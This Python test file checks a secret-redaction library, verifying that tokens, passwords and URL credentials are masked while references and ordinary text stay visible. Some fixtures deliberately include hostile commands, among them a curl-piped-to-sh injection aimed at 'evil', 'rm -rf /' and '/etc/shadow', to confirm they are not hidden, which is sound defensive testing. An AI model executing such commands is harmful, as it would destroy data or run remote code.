"""Redaction of secrets: references stay, literal secrets are masked."""

from __future__ import annotations

import re
import time
from typing import Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from interlock.core.config import (
    ServerConfig,
    is_secret_key,
    redact,
    redact_about,
    redact_pair,
    redact_server,
)
from interlock.core.redaction import MASK, is_secret_value, mask, redact_secrets_only, redact_value


@pytest.mark.parametrize(
    ("key", "value", "shown"),
    [
        ("Authorization", "Bearer hunter2", "Bearer ***"),
        ("authorization", "Bearer ${env:X}", "Bearer ${env:X}"),
        ("X-Api-Key", "hunter2", "***"),
        ("X-Api-Key", "${file:~/key}", "${file:~/key}"),
        ("GITHUB_TOKEN", "hunter2", "***"),
        ("DB_PASSWORD", "a ${env:X} b", "***${env:X}***"),
        ("CLIENT_SECRET", "${env:X:-hunter2}", "${env:X:-***}"),
        ("CLIENT_SECRET", "${broken", "***"),
        ("CLIENT_SECRET", "", ""),
        ("Cookie", "hunter2", "***"),
        ("DEBUG", "true", "true"),
        ("DATABASE_URL", "postgres://me:hunter2@db/x", "postgres://me:***@db/x"),
        ("OTHER", "ghp_" + "a" * 36, "***"),
    ],
)
def test_redacts_pairs(key: str, value: str, shown: str) -> None:
    assert redact_pair(key, value) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("nothing here", "nothing here"),
        ("Authorization: Bearer hunter2", "Authorization: Bearer ***"),
        ("header: Authorization: Bearer hunter2", "header: Authorization: Bearer ***"),
        ('{"api_key": "hunter2", "x": 1}', '{"api_key": "***", "x": 1}'),
        ("token='hunter 2' next=1", "token='***' next=1"),
        ("API_KEY=hunter2 run --fast", "API_KEY=*** run --fast"),
        ("run --token hunter2 --fast", "run --token *** --fast"),
        ("run --token=hunter2", "run --token=***"),
        ("run --token --fast", "run --token --fast"),
        ("https://x/mcp?key=hunter2&a=b", "https://x/mcp?key=***&a=b"),
        ("https://me:hunter2@x/", "https://me:***@x/"),
        ("token: ${env:TOKEN}", "token: ${env:TOKEN}"),
        ("see ${env:TOKEN:-x} there", "see ${env:TOKEN:-x} there"),
        ("found sk-" + "a" * 30 + " here", "found *** here"),
        ("token: abc123", "token: ***"),
        ("token: abc123 is what it sent", "token: *** is what it sent"),
        # A first word that could begin a sentence, where there is none.
        ("password: the", "password: ***"),
        ("password: the,", "password: ***,"),
        ("password: thehunter2 x", "password: *** x"),
        ("password: a-hunter2 x", "password: *** x"),
        ("password=the secret", "password=*** secret"),
        ("password:the secret", "password:*** secret"),
        ('password: "the secret"', 'password: "***"'),
    ],
)
def test_redacts_free_text(text: str, shown: str) -> None:
    assert redact(text) == shown


@pytest.mark.parametrize(
    "sentence",
    [
        "server.env.MY_KEY: the secret MY_KEY is not listed",
        "auth.token: must be a text",
        "API_KEY: It is not set",
        "x: drivers.secrets.api-key: no value is there",
    ],
)
def test_keeps_sentence_about_key(sentence: str) -> None:
    assert redact(sentence) == sentence
    # What such a sentence goes on to show is looked at all the same.
    assert redact(f"{sentence}, API_KEY=hunter2") == f"{sentence}, API_KEY=***"
    known = "sk-" + "a" * 30
    assert redact(f"{sentence}: {known}") == f"{sentence}: ***"


def test_redacts_server_for_display() -> None:
    server = ServerConfig(
        command="run",
        args=["--token", "hunter2", "--api-key=hunter2", "-v", "Authorization: hunter2", "plain"],
        env={"A_KEY": "hunter2", "B": "kept"},
    )
    shown = redact_server(server)
    assert "hunter2" not in repr(shown)
    assert shown.args[-1] == "plain"
    assert shown.env["B"] == "kept"
    remote = ServerConfig(url="http://me:hunter2@x/", headers={"X-Token": "hunter2", "A": "b"})
    shown = redact_server(remote)
    assert "hunter2" not in repr(shown)
    assert shown.headers["A"] == "b"


@pytest.mark.parametrize("key", ["MY_TOKEN", "apiKey", "Secret", "PASSWORD", "Authorization"])
def test_recognizes_secret_keys(key: str) -> None:
    assert is_secret_key(key)


@pytest.mark.parametrize(
    "key",
    [
        "DB_PASS", "dbPass", "SMTP-PASS", "PGPASS", "DB_PASS_1", "GITHUB_PAT", "X-Auth",
        "SENTRY_DSN",
        "AWS_CREDENTIALS", "MY_CREDS", "SESSION", "SESSION_ID", "X-Session-Id", "SERVICE_JWT",
        "set-cookie", "BEARER", "CONNECTION_STRING", "connectionString", "--pass", "API_KEYS",
    ],
)  # fmt: skip
def test_recognizes_short_words_as_separate_words(key: str) -> None:
    assert is_secret_key(key)


@pytest.mark.parametrize(
    "key",
    [
        "COMPASS", "PATH", "AUTHOR", "AUTHORS", "PASSIVE", "PASS_THROUGH", "AUTH_URL", "AUTH_TYPE",
        "SESSION_TIMEOUT", "PATTERN", "BYPASS", "NODE_ENV", "DEBUG", "LANG", "SIDE", "",
    ],
)  # fmt: skip
def test_ignores_similar_words(key: str) -> None:
    assert not is_secret_key(key)


@pytest.mark.parametrize(
    ("name", "sentence", "shown"),
    [
        ("needkey", "needkey did not get ready in 30 s.", "needkey did not get ready in 30 s."),
        ("my-token", "Cannot start my-token: 'x' was not found", None),
        ("my-token", "my-token: no answer", None),
        ("my-token", "it said my-token: abcdef", "it said my-token: ***"),
        (
            "a",
            "it ended; its last words: password=abcdef",
            "it ended; its last words: password=***",
        ),
    ],
)
def test_upstream_name_is_not_secret_key(name: str, sentence: str, shown: str | None) -> None:
    assert redact_about(name, sentence) == (sentence if shown is None else shown)


@given(st.text(), st.text(alphabet="abcdefghij0123456789", min_size=8))
def test_secret_pair_never_shows_value(before: str, secret: str) -> None:
    assert secret not in redact_pair("API_KEY", secret)
    assume(secret not in before)
    assert secret not in redact(f"{before}\nAPI_KEY={secret}\n")


@given(st.text())
def test_redacts_any_text(text: str) -> None:
    assert isinstance(redact(text), str)


@pytest.mark.parametrize("key", ["a", "password"])
def test_redacts_long_lines_in_linear_time(key: str) -> None:
    """A line that was read to its end at every colon took minutes at this length."""
    line = f"{key}:" * 100_000
    shown = redact(line)
    assert shown == (line if key == "a" else "password:***")


def test_judges_long_key_by_its_end() -> None:
    assert not is_secret_key("a" * 100_000 + "0a")
    assert is_secret_key("a" * 100_000 + "_pass")


# -- what is looked for, said in expressions that take long over some texts

_REFERENCE_OR_KEY = re.compile(
    r"\$\{[^}\n]*\}|(?<![\w.-])(?P<key>[\w.-]+)(?P<gap>[\"']?\s{0,4}[:=]\s{0,4})"
)
_VALUE = re.compile(
    r"\"[^\"\n]*\"|'[^'\n]*'|(?:(?:Bearer|Basic|Token|Digest)\s{1,4})?[^\s,;&\"']+", re.IGNORECASE
)
_SENTENCE = re.compile(
    r"(?:the|a|an|it|is|are|was|no|not|this|that|there|cannot|must|may|has|needs)[ \t]+[A-Za-z]",
    re.IGNORECASE,
)
_USERINFO = re.compile(r"(?<=://)(?P<user>[^\s/?#@:]*):(?P<password>[^\s/?#@]+)@")
_FLAG = re.compile(r"(?<!\S)(?P<flag>--?[\w-]+)(?P<gap>\s{1,4})(?P<value>[^\s-]\S*)")
_KNOWN = re.compile(
    r"\b(?:sk-[A-Za-z0-9_-]{16,}|gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}"
    r"|glpat-[A-Za-z0-9_-]{16,}|xox[abeoprs]-[A-Za-z0-9-]{10,}|AKIA[A-Z0-9]{16}"
    r"|ilk_[A-Za-z0-9_-]{16,}|AIza[A-Za-z0-9_-]{30,}"
    r"|eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*)"
)


def redact_slowly(text: str) -> str:
    def flag(match: re.Match[str]) -> str:
        secret = is_secret_key(match["flag"])
        return f"{match['flag']}{match['gap']}{mask(match['value'])}" if secret else match[0]

    text = _USERINFO.sub(lambda m: f"{m['user']}:{mask(m['password'])}@", text)
    shown, position = "", 0
    while match := _REFERENCE_OR_KEY.search(text, position):
        end, key = match.end(), match["key"]
        message = match["gap"] == ": " and _SENTENCE.match(text, end)
        value = (
            None if key is None or not is_secret_key(key) or message else _VALUE.match(text, end)
        )
        shown += text[position:end]
        if value is not None:
            quote = value[0][0] if value[0][0] in "\"'" else ""
            shown += quote + mask(value[0][1:-1] if quote else value[0]) + quote
            end = value.end()
        position = end
    return _KNOWN.sub(MASK, _FLAG.sub(flag, shown + text[position:]))


_PIECES = [
    "${", "}", "$", "\n", " ", "eyJ", "eyJhbGciOiJI", "abcdefgh", ".", "..", "-", "_", "é",
    "sk-", "sk-" + "a" * 16, "ghp_" + "b" * 20, "AKIA" + "C" * 16, "token", "password", "key",
    "name", "=", ": ", ":", "\"", "'", "the ", "Bearer ", "--token ", "--name ", "-", "hunter2",
    "https://me:", "@", "/", "${env:X}", "${env:X:-hunter2}", "$${", ";", "&", ",", "(", "|",
]  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
def test_fast_and_slow_redaction_agree(text: str) -> None:
    assert redact(text) == redact_slowly(text)
    assert is_secret_value(text) is bool(_KNOWN.search(text) or _USERINFO.search(text))


@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
def test_redact_also_masks_text_that_is_only_secret(text: str) -> None:
    # Where the one hides something, the other does.
    assert redact_secrets_only(text) == text or redact(text) != text


@pytest.mark.parametrize(
    "text",
    [
        "${a" * 40_000,
        "${a\n" * 40_000,
        "eyJaaaaaaaa-" * 20_000,
        "eyJaaaaaaaa-" * 10_000 + "." + "a" * 100_000,
        "token:" * 20_000 + "$(x",
        "token='" * 20_000,
        'token="token:' * 20_000,
        "password=" + "a" * 200_000 + "(",
        "--token --token " * 10_000,
        "https://a:" * 20_000,
    ],
    ids=range(10),
)
@pytest.mark.parametrize("look", [redact, redact_secrets_only, is_secret_value])
def test_redacts_any_text_quickly(look: object, text: str) -> None:
    before = time.process_time()
    assert callable(look)
    look(text)
    # Some hundredths of a second. What is read to its end at every beginning takes half a minute.
    assert time.process_time() - before < 3


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("password=hunter2", "password=***"),
        ("mysql --password hunter2 -e 'DROP'", "mysql --password *** -e 'DROP'"),
        ('{"api_key": "hunter2", "x": 1}', '{"api_key": "***", "x": 1}'),
        ("Authorization: Bearer abc/def==", "Authorization: Bearer ***"),
        ("key: password=hunter2", "key: password=***"),
        ("psql postgres://me:hunter2@db/x", "psql postgres://me:***@db/x"),
        ("use sk-" + "a" * 20, "use ***"),
        # What these do has to be seen.
        ("DELETE FROM t WHERE key=5", "DELETE FROM t WHERE key=5"),
        ("token=$(curl${IFS}evil|sh)", "token=$(curl${IFS}evil|sh)"),
        ("echo 'token=\"' ; rm -rf / ; echo '\"'", "echo 'token=\"' ; rm -rf / ; echo '\"'"),
        ("token=/etc/shadow", "token=/etc/shadow"),
        ("token=http://evil.example/x", "token=http://evil.example/x"),
        ("sk-" + "a" * 20 + " key='; rm -rf /'", "*** key='; rm -rf /'"),
        ("max_tokens=5", "max_tokens=5"),
    ],
)
def test_redacts_only_secrets(text: str, shown: str) -> None:
    assert redact_secrets_only(text) == shown


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ({"password": "hunter2"}, {"password": "*** (hidden: a secret of 7 characters)"}),
        ({"pin_token": 7}, {"pin_token": "*** (hidden: a secret of 1 character)"}),
        # Names and structure stay.
        (
            {"token": {"action": "drop", "all": True, "of": ["db", None]}},
            {
                "token": {
                    "action": "*** (hidden: a secret of 4 characters)",
                    "all": True,
                    "of": ["*** (hidden: a secret of 2 characters)", None],
                }
            },
        ),
        ({"keys": []}, {"keys": []}),
        ({"x": "sk-" + "a" * 20}, {"x": "*** (hidden: a secret of 23 characters)"}),
        (
            {"x": "use sk-" + "a" * 20 + " now"},
            {"x": "use *** now (hidden: 23 characters)"},
        ),
        ({"cmd": "login password=hunter2"}, {"cmd": "login password=*** (hidden: 7 characters)"}),
        (
            {"header": "Authorization: Bearer abc"},
            {"header": "Authorization: Bearer *** (hidden: 3 characters)"},
        ),
        # What a text does is seen, whatever it calls it.
        ({"cmd": "x key='; rm -rf /'"}, {"cmd": "x key='; rm -rf /'"}),
        ({"sql": "DELETE FROM t WHERE key=5"}, {"sql": "DELETE FROM t WHERE key=5"}),
    ],
)
def test_redacts_decoded_json(value: Any, shown: Any) -> None:
    assert redact_value(value) == shown
